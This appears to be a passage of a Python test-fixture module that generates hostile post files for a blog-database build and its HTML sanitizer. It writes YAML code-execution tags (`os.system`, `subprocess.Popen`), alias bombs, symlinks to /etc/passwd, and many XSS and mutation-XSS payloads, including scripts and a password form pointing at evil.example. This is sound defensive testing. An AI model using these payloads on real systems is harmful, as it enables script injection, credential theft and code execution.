"""Hostile post files, generated on demand (a 20 MB body and binary junk are not committed).

`write_hostile_posts(folder)` fills an empty folder and returns what the build must make of
each file, keyed by the path the database names it by (relative to `folder`):

    ARTICLE          the file becomes an article (a row in `article_files`)
    "problem: TEXT"  a row in `problems` whose reason contains TEXT
    SKIP             not a post file: not read, counted in `files_skipped`
    ABSENT           never seen at all (inside a folder the build does not enter)

`write_good_posts(folder)` adds ordinary posts, which must become articles whatever sits
beside them, and `write_attack_posts(folder, local_image)` posts that each try to run script
or reach another host in a reader's browser. `build_hostile_site` writes all three into one
folder and builds it with the real CLI, once per test session (conftest.py, `hostile_build`).
"""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import random
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

from selectolax.lexbor import LexborHTMLParser

from postsdb.scan import display_path

CLI_TIMEOUT = 240  # a hang (say, on a FIFO) must fail the test, not the whole run
EVIL = "https://evil.example"
ATTACKS_FOLDER = "attacks"
ARTICLE = "article"
SKIP = "skip"
ABSENT = "absent"
ROOT = Path(__file__).resolve().parent.parent
SEED_POST = ROOT / "data" / "seed" / "000_4a1463b1f05834cd.txt"

# A `!!python/object/apply` tag that would create this file (beside the folder) if it ran.
PWNED_MARKER = "hostile-yaml-executed"
# The two posts that share one URL (after canonicalization): the newer one is kept.
DUPLICATE_URL = "https://example.com/hostile/duplicate"
DUPLICATE_KEPT = "dup-url-new.md"
# The post whose body is full of markup that must not survive sanitizing.
MARKUP_POST = "hostile-markup.md"
MARKUP_URL = "https://example.com/hostile/markup"
MARKUP_SCRAPED_POST = "hostile-markup-scraped.md"
EPOCH_POST = "epoch-disagrees.md"


# What the build says of a page with nothing to read: refused, and said so, never stored empty.
NOT_AN_ARTICLE = "not an article: no text and no image"


def problem(reason: str) -> str:
    return f"problem: {reason}"


def front(
    title: str | None = "标题",
    date: str | None = "2021-03-04T05:06:07Z",
    url: str | None = None,
    extra: str = "",
    name: str = "",
) -> str:
    """Front matter in the corpus's shape; `None` leaves a key out."""
    lines = ["---", "layout: post"]
    if title is not None:
        lines.append(f'title: "{title}"')
    if date is not None:
        lines.append(f"date: {date}")
    lines.append("author: 作者")
    if url is not None or name:
        lines.append(f"from: {url or url_for(name)}")
    lines += ["tags: [ 测试 ]", "categories: [ 测试 ]"]
    if extra:
        lines.append(extra.rstrip("\n"))
    lines.append("---")
    return "\n".join(lines) + "\n"


def url_for(name: str) -> str:
    return "https://example.com/hostile/" + hashlib.sha1(name.encode("utf-8", "surrogateescape")).hexdigest()[:12]


BODY = "<div><p>一段正文，some English text.</p></div>\n"


def post(name: str, body: str = BODY, **kwargs) -> str:
    return front(name=name, **kwargs) + body


def write_hostile_posts(folder: Path) -> dict[str, str]:
    """Write every hostile file into `folder` (which must exist); return the expected outcomes.

    A symlink target and a folder of "outside" files are written beside `folder`, in
    `folder.parent / (folder.name + "-outside")`.
    """
    outside = folder.parent / f"{folder.name}-outside"
    outside.mkdir(exist_ok=True)
    expected: dict[str, str] = {}

    def add(name: str, content: str | bytes, outcome: str) -> Path:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
        expected[name] = outcome
        return path

    write_encoding_cases(add)
    write_front_matter_cases(add, folder)
    write_date_cases(add)
    write_title_and_url_cases(add)
    write_body_cases(add)
    write_name_cases(add, folder, expected)
    write_link_cases(folder, outside, expected)
    write_other_files(add, folder, expected)
    return expected


# --- bytes and encodings --------------------------------------------------------


def write_encoding_cases(add) -> None:
    rng = random.Random(20240229)
    good = post("good-bytes.md")
    add("empty.md", b"", problem("empty"))
    add("only-whitespace.md", b" \n\n\t \r\n", problem("empty"))
    add("binary.md", rng.randbytes(4096) + b"\x00", problem("NUL"))
    add("png-named-post.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(512), problem("NUL"))
    add("nul-in-body.md", good.replace("一段正文", "一段\x00正文"), problem("NUL"))
    add("nul-in-front-matter.md", good.replace("author: 作者", "author: 作\x00者"), problem("NUL"))
    add("binary-no-nul.md", b"\xff\xfe" + bytes(rng.randrange(0x80, 0x100) for _ in range(4096)), problem("not UTF-8"))
    add("gbk.md", post("gbk.md", title="中文标题").encode("gbk"), problem("not UTF-8"))
    add("utf-16.md", post("utf-16.md").encode("utf-16"), problem("NUL"))
    add("truncated-utf8.md", post("truncated-utf8.md").encode("utf-8")[:-2] + "中".encode("utf-8")[:2], problem("not UTF-8"))
    # Valid: a byte-order mark, and Windows or old Mac line endings.
    add("bom.md", "\ufeff" + post("bom.md"), ARTICLE)
    add("crlf.md", post("crlf.md").replace("\n", "\r\n"), ARTICLE)
    add("bom-crlf.md", "\ufeff" + post("bom-crlf.md").replace("\n", "\r\n"), ARTICLE)
    add("cr-only.md", post("cr-only.md").replace("\n", "\r"), ARTICLE)
    oversized = post("oversized.md", body="<div>" + "<p>太大了</p>" * (33 * 1024 * 1024 // 16) + "</div>")
    add("oversized.md", oversized, problem("-byte limit"))


# --- front matter -----------------------------------------------------------------


def write_front_matter_cases(add, folder: Path) -> None:
    add("no-front-matter.md", "<div><p>只有正文</p></div>\n", problem("no front matter"))
    add("front-matter-not-first.md", "\n" + post("front-matter-not-first.md"), problem("no front matter"))
    add("unterminated.md", front(name="unterminated").removesuffix("---\n") + BODY, problem("not closed"))
    add("front-matter-only-dashes.md", "---\n", problem("not closed"))
    add("front-matter-empty.md", "---\n---\n" + BODY, problem("missing `from`"))
    add("front-matter-list.md", "---\n- title\n- date\n---\n" + BODY, problem("front matter is a list"))
    add("front-matter-scalar.md", "---\njust a sentence\n---\n" + BODY, problem("front matter is a str"))
    add("front-matter-number.md", "---\n42\n---\n" + BODY, problem("front matter is a int"))
    add("front-matter-too-long.md", post("front-matter-too-long.md", extra="x: " + "长" * 70_000), problem("front matter is over"))
    add("yaml-unclosed-quote.md", post("yaml-unclosed-quote.md", extra='summary: "never closed'), problem("invalid YAML"))
    add("yaml-bad-indent.md", post("yaml-bad-indent.md", extra="a:\n  b: 1\n c: 2"), problem("invalid YAML"))
    add("yaml-unhashable-key.md", post("yaml-unhashable-key.md", extra="? [a, b]\n: c"), problem("invalid YAML"))
    add("yaml-tab-indent.md", post("yaml-tab-indent.md", extra="extra:\n\t- a\n\t- b"), problem("a tab: YAML indents with spaces only"))
    add("yaml-tab-before-key.md", "---\n\ttitle: 标题\ndate: 2021-03-04\nfrom: https://example.com/t\n---\n" + BODY, problem("a tab: YAML indents with spaces only"))
    # A tab after `key:` is valid YAML: a separator like a space.
    add("yaml-tab-after-colon.md", post("yaml-tab-after-colon.md").replace('title: "', 'title:\t"'), ARTICLE)
    add("yaml-duplicate-key.md", post("yaml-duplicate-key.md", extra='title: "第二个标题"'), ARTICLE)
    marker = folder.parent / PWNED_MARKER
    add(
        "yaml-python-object.md",
        post("yaml-python-object.md", extra=f"x: !!python/object/apply:os.system ['touch {marker}']"),
        problem("the tag `!!python/object/apply:os.system` is not allowed"),
    )
    add(
        "yaml-python-name.md",
        post("yaml-python-name.md", extra="layout2: !!python/object/new:subprocess.Popen [['touch', 'x']]"),
        problem("the tag `!!python/object/new:subprocess.Popen` is not allowed"),
    )
    add(
        "yaml-python-tag-in-title.md",
        post("yaml-python-tag-in-title.md").replace('title: "', 'title: !!python/name:os.system "'),
        problem("the tag `!!python/name:os.system` is not allowed"),
    )
    # The classic "billion laughs": nine levels of nine aliases.
    levels = ['l0: &l0 ["哈", "哈", "哈", "哈", "哈", "哈", "哈", "哈", "哈"]']
    levels += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 9)]
    add("yaml-alias-bomb.md", post("yaml-alias-bomb.md", title=None, extra="\n".join(levels) + "\ntitle: *l8"), problem("YAML aliases"))
    # Under the alias limit, and still 2**24 strings once expanded: only harmless if
    # nothing ever walks or prints the whole value.
    doubling = ["d0: &d0 [哈, 哈]"] + [f"d{i}: &d{i} [*d{i - 1}, *d{i - 1}]" for i in range(1, 24)]
    add("yaml-alias-bomb-small.md", post("yaml-alias-bomb-small.md", title=None, extra="\n".join(doubling) + "\ntitle: *d23"), problem("`title`"))
    add("yaml-alias-bomb-date.md", post("yaml-alias-bomb-date.md", date=None, extra="\n".join(doubling) + "\ndate: *d23"), problem("`date` is not a date"))
    add("yaml-alias-recursive.md", post("yaml-alias-recursive.md", extra="r: &r [*r]\ntags: *r"), problem("`tags` holds a list"))
    add("yaml-deep-flow.md", post("yaml-deep-flow.md", extra="x: " + "[" * 30_000 + "]" * 30_000), problem("nested deeper"))
    add("yaml-deep-block.md", post("yaml-deep-block.md", extra="x:\n  " + "- " * 25_000 + "a"), problem("nested deeper"))
    add("yaml-deep-mapping.md", post("yaml-deep-mapping.md", extra="x: " + "{a: " * 10_000 + "}" * 10_000), problem("nested deeper"))
    add("title-is-a-mapping.md", post("title-is-a-mapping.md", title=None, extra="title: {zh: 标题}"), problem("`title`"))
    add("tags-hold-mappings.md", post("tags-hold-mappings.md", extra="tags: [ {a: 1} ]"), problem("`tags` holds a dict"))
    many_tags = ", ".join(f"t{i}" for i in range(8_000))
    add("many-tags.md", post("many-tags.md").replace("tags: [ 测试 ]", f"tags: [ {many_tags} ]"), ARTICLE)


# --- dates --------------------------------------------------------------------


def epoch_comment(moment: dt.datetime) -> str:
    return f"<!--{int(moment.timestamp() * 1000)}-->\n"


def write_date_cases(add) -> None:
    add("date-missing.md", post("date-missing.md", date=None), problem("missing `date`"))
    add("date-empty.md", post("date-empty.md", date='""'), problem("missing `date`"))
    add("date-missing-nan-epoch.md", post("date-missing-nan-epoch.md", date=None, body="<!--NaN-->\n" + BODY), problem("missing `date`"))
    feed_time = dt.datetime(2021, 9, 6, 10, 23, tzinfo=dt.timezone.utc)
    add("date-missing-epoch.md", post("date-missing-epoch.md", date=None, body=epoch_comment(feed_time) + BODY), ARTICLE)
    add("date-words.md", post("date-words.md", date="yesterday afternoon"), problem("not an ISO 8601 date"))
    add("date-long-blank-run.md", post("date-long-blank-run.md", date='"1' + " " * 60_000 + 'x"'), problem("not an ISO 8601 date"))
    add("date-slashes.md", post("date-slashes.md", date="2021/03/04"), problem("not an ISO 8601 date"))
    add("date-february-30.md", post("date-february-30.md", date="2021-02-30"), problem("'2021-02-30' is not a real date"))
    add("date-month-13.md", post("date-month-13.md", date="2021-13-01"), problem("'2021-13-01' is not a real date"))
    add("date-hour-25.md", post("date-hour-25.md", date="2021-03-04 25:00:00"), problem("'2021-03-04 25:00:00' is not a real date"))
    add("date-quoted-impossible.md", post("date-quoted-impossible.md", date='"2021-02-30T00:00:00Z"'), problem("not an ISO 8601 date"))
    add("date-year-999.md", post("date-year-999.md", date="0999-01-01"), ARTICLE)
    add("date-tag-nonsense.md", post("date-tag-nonsense.md", date="!!timestamp nonsense"), problem("'nonsense' is not a real date"))
    add("yaml-bool-tag-maybe.md", post("yaml-bool-tag-maybe.md", extra="comments: !!bool maybe"), problem("'maybe' does not fit its `!!bool` tag"))
    add("yaml-int-tag-empty.md", post("yaml-int-tag-empty.md", extra="n: !!int ''"), problem("'' does not fit its `!!int` tag"))
    add("yaml-int-tag-letters.md", post("yaml-int-tag-letters.md", extra="n: !!int abc"), problem("'abc' does not fit its `!!int` tag"))
    add("date-year-0.md", post("date-year-0.md", date="0000-01-01"), problem("'0000-01-01' is not a real date"))
    add("date-before-year-1.md", post("date-before-year-1.md", date="0001-01-01T00:00:00+01:00"), problem("out of range"))
    add("date-after-9999.md", post("date-after-9999.md", date="9999-12-31T23:59:59-01:00"), problem("out of range"))
    add("date-offset-25h.md", post("date-offset-25h.md", date="2021-03-04T00:00:00+25:00"), problem("'2021-03-04T00:00:00+25:00' is not a real date"))
    add("date-number.md", post("date-number.md", date="1630923780"), problem("`date` is not a date"))
    add("date-boolean.md", post("date-boolean.md", date="yes"), problem("`date` is not a date"))
    add("date-list.md", post("date-list.md", date="[2021-03-04]"), problem("`date` is not a date"))
    # The front matter date wins over the feed's epoch comment, however far apart.
    add(EPOCH_POST, post(EPOCH_POST, date="2021-03-04T05:06:07Z", body=epoch_comment(feed_time) + BODY), ARTICLE)
    add("epoch-garbage.md", post("epoch-garbage.md", body="<!--99999999999999-->\n" + BODY), ARTICLE)


# --- titles and URLs ------------------------------------------------------------


def write_title_and_url_cases(add) -> None:
    add("title-missing.md", post("title-missing.md", title=None), problem("missing title"))
    add("title-empty.md", post("title-empty.md", title=""), problem("missing title"))
    add("title-invisible.md", post("title-invisible.md", title="\u200b\u200d\ufeff  "), problem("missing title"))
    add("title-from-h1.md", post("title-from-h1.md", title=None, body="<article><h1>正文里的标题</h1><p>正文</p></article>\n"), ARTICLE)
    add("title-control-chars.md", post("title-control-chars.md", title="控制\\b字符\u200b标题"), ARTICLE)
    add("title-liquid.md", post("title-liquid.md", title="{{ site.title }} {% raw %}", body="<div><p>{{ page.x }} {% include x.html %}</p></div>"), ARTICLE)
    add("url-missing.md", front(date="2021-03-04") + BODY, problem("missing `from`"))
    add("url-empty.md", post("url-empty.md", url='""'), problem("missing `from`"))
    add("url-not-a-url.md", post("url-not-a-url.md", url="not a url at all"), problem("not an http(s) URL"))
    add("url-relative.md", post("url-relative.md", url="/2021/03/04/post.html"), problem("not an http(s) URL"))
    add("url-javascript.md", post("url-javascript.md", url="javascript:alert(1)"), problem("not an http(s) URL"))
    add("url-file.md", post("url-file.md", url="file:///etc/passwd"), problem("not an http(s) URL"))
    add("url-bad-ipv6.md", post("url-bad-ipv6.md", url="'http://[::1'"), problem("not a URL"))
    add("url-bad-port.md", post("url-bad-port.md", url="'https://example.com:99999/x'"), problem("not a URL"))
    add("url-space-in-host.md", post("url-space-in-host.md", url="'http://exa mple.com/x'"), problem("not an http(s) URL"))
    add("url-number.md", post("url-number.md", url="12345"), problem("not an http(s) URL"))
    add("url-list.md", post("url-list.md", url="[https://example.com/a, https://example.com/b]"), problem("`from`"))
    # Two files, one article: the same URL once the tracking parameter is dropped.
    add("dup-url-old.md", post("dup-url-old.md", url=DUPLICATE_URL + "?utm_source=feed", date="2021-01-01T00:00:00Z"), ARTICLE)
    add(DUPLICATE_KEPT, post(DUPLICATE_KEPT, url=DUPLICATE_URL, date="2021-06-01T00:00:00Z", title="新版本"), ARTICLE)


# --- bodies -----------------------------------------------------------------------


HOSTILE_MARKUP = """\
<p onclick="alert(1)" style="color:red" class="x">点击<b onmouseover="alert(2)">这里</b></p>
<script>alert("script")</script><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<img src="https://img.example.com/a.png" onerror="alert(3)" alt="图">
<img src="x" onerror="alert(4)"><img src="javascript:alert(5)"><img src="data:image/png;base64,AAAA">
<img data-src="//img.example.com/lazy.png" src="data:image/gif;base64,R0lGOD">
<a href="javascript:alert(6)">js</a> <a href="JaVaScRiPt:alert(7)">JS</a>
<a href="&#106;avascript:alert(8)">entity</a> <a href="java&#x09;script:alert(9)">tab</a>
<a href=" javascript:alert(10)">space</a> <a href="vbscript:msgbox(11)">vb</a>
<a href="data:text/html,<script>alert(12)</script>">data</a>
<a href="https://good.example.com/page" target="_blank" rel="opener">好链接</a>
<a href="/relative/path">相对链接</a> <a href="mailto:someone@example.com">邮件</a>
<iframe src="https://www.youtube.com/embed/xyz" onload="alert(13)"></iframe>
<iframe srcdoc="<script>alert(14)</script>"></iframe>
<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(15)">提交</button></form>
<style>body { background: url("javascript:alert(16)") }</style>
<link rel="stylesheet" href="https://evil.example/x.css"><link rel="import" href="https://evil.example/x.html">
<svg onload="alert(17)"><script>alert(18)</script><a xlink:href="javascript:alert(19)">svg</a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(20)></style></mglyph></table></mtext></math>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<meta http-equiv="refresh" content="0;url=javascript:alert(21)"><base href="javascript:alert(22)//">
<video src="https://video.example.com/v.mp4" onplay="alert(23)"><source src="x" onerror="alert(24)"></video>
<div style="background-image: url(javascript:alert(25))" onmouseenter="alert(26)">样式</div>
<noscript><p title="</noscript><img src=x onerror=alert(27)>">noscript</p></noscript>
<template><img src=x onerror=alert(28)></template>
<p>结尾<!-- <script>alert(29)</script> --></p>
<textarea><img src=x onerror=alert(30)></textarea><select><option>选项</option></select>
<details open ontoggle="alert(31)"><summary>摘要</summary>内容</details>
<img src="https://img.example.com/b.png" referrerpolicy="unsafe-url" loading="eager">
"""


def write_body_cases(add) -> None:
    add(MARKUP_POST, post(MARKUP_POST, url=MARKUP_URL, body="<div>" + HOSTILE_MARKUP.replace("\n", "") + "</div>\n"), ARTICLE)
    add(MARKUP_SCRAPED_POST, post(MARKUP_SCRAPED_POST, body="<article>\n" + HOSTILE_MARKUP + "</article>\n"), ARTICLE)
    add("body-empty.md", post("body-empty.md", body=""), problem(NOT_AN_ARTICLE))
    add("body-only-script.md", post("body-only-script.md", body="<script>alert(1)</script>"), problem(NOT_AN_ARTICLE))
    add("body-unclosed-tags.md", post("body-unclosed-tags.md", body="<div><p>未闭合<b><i><a href='/x'>" * 100), ARTICLE)
    add("body-unclosed-paragraphs.md", post("body-unclosed-paragraphs.md", body="<div>" + "<p>段落" * 60_000), ARTICLE)
    add("body-stray-end-tags.md", post("body-stray-end-tags.md", body="</div></p></html>" * 5_000 + BODY), ARTICLE)
    # Inputs that made a regular expression rescan the rest of the text at every step.
    add("body-unclosed-comments.md", post("body-unclosed-comments.md", body="<div>\n" + "<!--" * 250_000), problem(NOT_AN_ARTICLE))
    add("body-lone-brackets.md", post("body-lone-brackets.md", body="<p>\n" + "<" * 500_000), ARTICLE)
    add("body-unclosed-noscript.md", post("body-unclosed-noscript.md", body="<div>" + "<noscript" * 100_000), problem(NOT_AN_ARTICLE))
    add("body-long-blank-run.md", post("body-long-blank-run.md", body="<p>a" + " " * 1_000_000 + "b\n</p>"), ARTICLE)
    long_width = '<p>图<img src="https://img.example.com/w.png" width="1' + " " * 200_000 + 'x"></p>'
    add("body-long-attribute.md", post("body-long-attribute.md", body=long_width), ARTICLE)
    shallow_with_stray_ends = "<div>" * 900 + "</x>" * 200_000 + "不深" + "</div>" * 900
    add("body-stray-ends-under-limit.md", post("body-stray-ends-under-limit.md", body=shallow_with_stray_ends), ARTICLE)
    add("body-not-html.md", post("body-not-html.md", body="<<<>>>< / >&&&;&#xFFFFFFFF;&#0;<!-- <!-- -->]]>"), ARTICLE)
    # 20 MB in the RSS shape: one line of paragraphs, with a link and an image now and then.
    paragraph = "<p>这是一个很长的段落，用来测试二十兆字节的正文。Some English words too.</p>"
    extra = '<p><a href="https://example.com/x{0}">链接{0}</a><img src="https://img.example.com/{0}.png"></p>'
    parts, size = [], 0
    while size < 20 * 1024 * 1024:
        chunk = paragraph * 49 + extra.format(len(parts))
        parts.append(chunk)
        size += len(chunk.encode("utf-8"))
    add("huge-body.md", post("huge-body.md", body="<div>" + "".join(parts) + "</div>\n"), ARTICLE)
    add("deep-nesting.md", post("deep-nesting.md", body="<div>" * 50_000 + "深" + "</div>" * 50_000), ARTICLE)
    add("deep-nesting-inline.md", post("deep-nesting-inline.md", body="<div>" + "<span><b>" * 25_000 + "深"), ARTICLE)
    deep_with_stray_ends = "<div>" + "<section></i>" * 50_000 + "深"
    add("deep-nesting-stray-ends.md", post("deep-nesting-stray-ends.md", body=deep_with_stray_ends), ARTICLE)


# --- what stored HTML must never hold -----------------------------------------------

ACTIVE_TAGS = frozenset(
    "script style link iframe frame frameset form input button textarea select option object embed "
    "applet svg math meta base template noscript details dialog audio video source track".split()
)
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "poster", "background", "srcset")


def active_content(html: str) -> list[str]:
    """What in stored HTML could run or load something: read from the parsed tree, so text
    that merely mentions `onerror=` (escaped, in an attribute value) does not count."""
    found = []
    tree = LexborHTMLParser(html)  # the whole tree: a leading <style> or <link> goes to <head>
    for node in tree.root.traverse() if tree.root is not None else []:
        if node.tag in ACTIVE_TAGS:
            found.append(f"<{node.tag}>")
        for name, value in (node.attributes or {}).items():
            if name.startswith("on") or name == "style":
                found.append(f"<{node.tag} {name}>")
            elif name in URL_ATTRIBUTES and not re.match(r"(https?:|mailto:)", "".join((value or "").split()), re.I):
                found.append(f"<{node.tag} {name}={value!r}>")
    return found


# --- file names, links and non-post files -----------------------------------------


def write_name_cases(add, folder: Path, expected: dict[str, str]) -> None:
    for name in (
        "post with spaces.md",
        "-leading-dash.md",
        "--help.md",
        "2021-03-04-中文標題：全角冒号.md",
        "colon:in:name.md",
        "-dash 空格 中文: 冒号 (括号) [方括号].md",
        "ctrl\x08char\u200bname.md",
        "new\nline.md",
        "UPPER-CASE.MD",
        "nested/deeper/post in 子目录.md",
        "looks-like-a-post.md/inside.md",
    ):
        add(name, post(name), ARTICLE)
    # Names that are not UTF-8 get a printable name; two of them must not collide.
    for raw in (b"latin1-\xe9t\xe9.md", b"latin1-\xe8t\xe8.md"):
        path = folder / os.fsdecode(raw)
        path.write_text(post(os.fsdecode(raw)), encoding="utf-8")
        expected[display_path(os.fsdecode(raw))] = ARTICLE


def write_link_cases(folder: Path, outside: Path, expected: dict[str, str]) -> None:
    secret = outside / "secret.md"
    secret.write_text(post("secret.md", title="外面的秘密"), encoding="utf-8")
    (outside / "more.md").write_text(post("more.md"), encoding="utf-8")
    links = {
        "symlink-outside.md": (secret, problem("outside the source folder")),
        "symlink-outside-relative.md": (Path("..") / outside.name / "secret.md", problem("outside the source folder")),
        "symlink-to-etc-passwd.md": (Path("/etc/passwd"), problem("outside the source folder")),
        "symlink-inside.md": (Path("bom.md"), ARTICLE),
        "symlink-dangling.md": (Path("no-such-file.md"), problem("cannot read")),
        "symlink-loop.md": (Path("symlink-loop.md"), problem("symlink")),
    }
    for name, (target, outcome) in links.items():
        (folder / name).symlink_to(target)
        expected[name] = outcome
    # A linked folder is not entered at all.
    (folder / "linked-folder").symlink_to(outside, target_is_directory=True)
    expected["linked-folder/secret.md"] = ABSENT
    expected["linked-folder/more.md"] = ABSENT


def write_other_files(add, folder: Path, expected: dict[str, str]) -> None:
    add("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(200), SKIP)
    add(".DS_Store", b"\x00\x00\x00\x01Bud1" + bytes(100), SKIP)
    add("Thumbs.db", bytes(64), SKIP)
    add("README", "not a post", SKIP)
    add("post.md.bak", post("post-bak.md"), SKIP)
    add("notes.rst", "Notes\n=====\n", SKIP)
    add("nested/deeper/image.PNG", b"\x89PNG\r\n", SKIP)
    add(".git/objects/post.md", post("git-object.md"), ABSENT)
    add(".hidden-folder/post.md", post("hidden-folder.md"), ABSENT)
    fifo = folder / "fifo.md"
    os.mkfifo(fifo)  # opening it would block the build forever
    expected["fifo.md"] = problem("not a regular file")


# --- good posts -------------------------------------------------------------------


GOOD_POSTS = {
    "2021-01-01-good-rss.md": "https://example.com/good/rss",
    "2021-01-02-good-scraped.html": "https://example.com/good/scraped",
    "2021-01-03-good-plain.md": "https://example.com/good/plain",
}


def write_good_posts(folder: Path) -> dict[str, str]:
    """Ordinary posts; return {path: url}. The seed post from data/ is one of them."""
    feed_time = dt.datetime(2021, 1, 1, 8, tzinfo=dt.timezone.utc)
    bodies = {
        "2021-01-01-good-rss.md": epoch_comment(feed_time)
        + "[好的标题](https://example.com/good/rss)\n------\n\n<div><p>订阅源的正文。</p></div>\n",
        "2021-01-02-good-scraped.html": "<nav>导航</nav>\n<article>\n  <h1>抓取的页面</h1>\n  <p>抓取的\n   正文。</p>\n</article>\n",
        "2021-01-03-good-plain.md": "<div><p>普通的正文。</p></div>\n",
    }
    urls = {}
    for name, url in GOOD_POSTS.items():
        (folder / name).write_text(front(title=f"好文章 {name[11:-3]}", url=url) + bodies[name], encoding="utf-8")
        urls[name] = url
    shutil.copyfile(SEED_POST, folder / SEED_POST.name)
    urls[SEED_POST.name] = "https://www.rfa.org/mandarin/yataibaodao/meiti/ql2-09062021062321.html"
    return urls


# --- attacks the hostile suite lacks: each sets a canary if it ever runs -------------------

CANARY_ATTACKS = {
    "scripts": """<p>脚本<script>window.__canary='script'</script></p><SCRIPT SRC="{evil}/x.js"></SCRIPT>
<script src="/-/static/app.js"></script><script type="module">window.__canary='module'</script>
<p>拆开<scr<script>ipt>window.__canary='split'</scr</script>ipt></p>""",
    "handlers": """<p onclick="window.__canary='onclick'" onmouseover="window.__canary='onmouseover'">悬停</p>
<img src="x" onerror="window.__canary='onerror'"><img src="{local_image}" onload="window.__canary='onload'" alt="本地图片">
<details open ontoggle="window.__canary='ontoggle'"><summary>摘要</summary>内容</details>
<input autofocus onfocus="window.__canary='onfocus'"><body onload="window.__canary='body-onload'">
<video><source onerror="window.__canary='source-onerror'"></video><marquee onstart="window.__canary='marquee'">跑马灯</marquee>
<div style="animation: spin 1s" onanimationstart="window.__canary='animation'">动画</div>
<svg><animate onbegin="window.__canary='onbegin'" attributeName="x" dur="1s"/></svg>
<img src="{evil}/a.png" OnErRoR="window.__canary='mixed-case'" alt="大小写"><img src="{evil}/b.png"/onerror="window.__canary='slash'" alt="斜线">""",
    "links": """<p><a href="javascript:window.__canary='js-link'">一</a> <a href="JAVASCRIPT:window.__canary='js-upper'">二</a>
<a href="&#x6A;avascript:window.__canary='js-entity'">三</a> <a href="java&#x0A;script:window.__canary='js-newline'">四</a>
<a href="data:text/html,&lt;script&gt;parent.__canary='data-html'&lt;/script&gt;">五</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">六</a> <a href="vbscript:msgbox(1)">七</a>
<a href="{evil}/page" target="_blank" rel="opener" ping="{evil}/ping">八</a> <a href="{evil}/file" download>九</a>
<a href="https://good.example.org/ok">好链接</a></p>""",
    "stylesheets-and-fonts": """<link rel="stylesheet" href="{evil}/x.css"><link rel="preload" as="font" href="{evil}/f.woff2" crossorigin>
<link rel="prefetch" href="{evil}/p"><link rel="dns-prefetch" href="{evil}"><link rel="import" href="{evil}/i.html">
<style>@import url("{evil}/import.css"); @font-face {{ font-family: evil; src: url("{evil}/font.woff2") }} body {{ font-family: evil; background: url("{evil}/bg.png") }}</style>
<p style="font-family: evil; background-image: url({evil}/inline-bg.png)">样式</p><svg><style>@import url("{evil}/svg.css");</style></svg>
<div style="behavior: url({evil}/x.htc); width: expression(window.__canary='expression')">旧IE</div>""",
    "frames": """<iframe src="{evil}/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.__canary='srcdoc'&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.__canary='iframe-js'"></iframe><frameset><frame src="{evil}/frame2"></frameset>
<object data="{evil}/x.html" type="text/html"></object><embed src="{evil}/x.swf"><applet code="x.class"></applet>
<portal src="{evil}/portal"></portal><p>框架后</p>""",
    "meta-and-base": """<meta http-equiv="refresh" content="0;url={evil}/refresh"><meta http-equiv="refresh" content="0;url=javascript:window.__canary='meta'">
<meta http-equiv="Content-Security-Policy" content="script-src *"><base href="{evil}/"><base target="_blank">
<p>相对<a href="relative/link">链接</a><img src="relative/image.png" alt="相对图片"></p>""",
    "forms": """<form action="{evil}/steal" method="post"><input name="password" type="password">
<button formaction="javascript:window.__canary='formaction'">提交</button><input type="image" src="{evil}/input.png"></form><p>表单后</p>""",
    "svg-and-math": """<svg xmlns="http://www.w3.org/2000/svg" onload="window.__canary='svg-onload'"><script>window.__canary='svg-script'</script>
<a xlink:href="javascript:window.__canary='svg-link'"><text x="0" y="15">点</text></a><image href="{evil}/svg-image.svg"/>
<foreignObject><iframe src="{evil}/fo"></iframe></foreignObject><use href="{evil}/sprite.svg#x"/></svg>
<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/&gt;">
<math><maction actiontype="statusline" xlink:href="javascript:window.__canary='math-link'">数学</maction></math>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><p>矢量图后</p>""",
    "media-and-images": """<img src="{evil}/tracker.png" referrerpolicy="unsafe-url" loading="eager" alt="跟踪">
<img srcset="{evil}/1x.png 1x, {evil}/2x.png 2x" alt="srcset"><img data-src="{evil}/lazy.png" src="data:image/gif;base64,R0lGOD" alt="懒加载">
<picture><source srcset="{evil}/source.webp" type="image/webp"><img src="{evil}/picture.png" alt="picture"></picture>
<audio src="{evil}/a.mp3" autoplay></audio><video src="{evil}/v.mp4" poster="{evil}/poster.png" autoplay></video>
<table background="{evil}/table-bg.png"><tr><td background="{evil}/td-bg.png">表格</td></tr></table>
<img src="{local_image}" alt="本地图片二">""",
}
# Mutation XSS: markup that a sanitizer and a browser may parse differently. One post each,
# so that one swallowing the rest of the body cannot hide another.
MUTATION_ATTACKS = {
    "mglyph-style": """<math><mtext><table><mglyph><style><img src=x onerror="window.__canary='mglyph'"></style></mglyph></table></mtext></math>""",
    "svg-p-style": """<svg></p><style><a id="</style><img src=1 onerror=window.__canary='svg-p-style'>"></svg>""",
    "noscript-title": """<noscript><p title="</noscript><img src=x onerror=window.__canary='noscript'>">无脚本</p></noscript>""",
    "form-math": """<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__canary='form-math'">""",
    "math-style": """<math><style><img src=x onerror="window.__canary='math-style'"></style></math>""",
    "svg-style": """<svg><style><img src=x onerror="window.__canary='svg-style'"></style></svg>""",
    "select-template": """<select><template><style><img src=x onerror="window.__canary='select-template'"></style></template></select>""",
    "textarea": """<textarea></textarea><img src=x onerror="window.__canary='textarea'"><textarea><img src=x onerror="window.__canary='in-textarea'"></textarea>""",
    "title": """<title><img src=x onerror="window.__canary='title-element'"></title><p>后</p>""",
    "xmp": """<xmp><img src=x onerror="window.__canary='xmp'"></xmp><p>后</p>""",
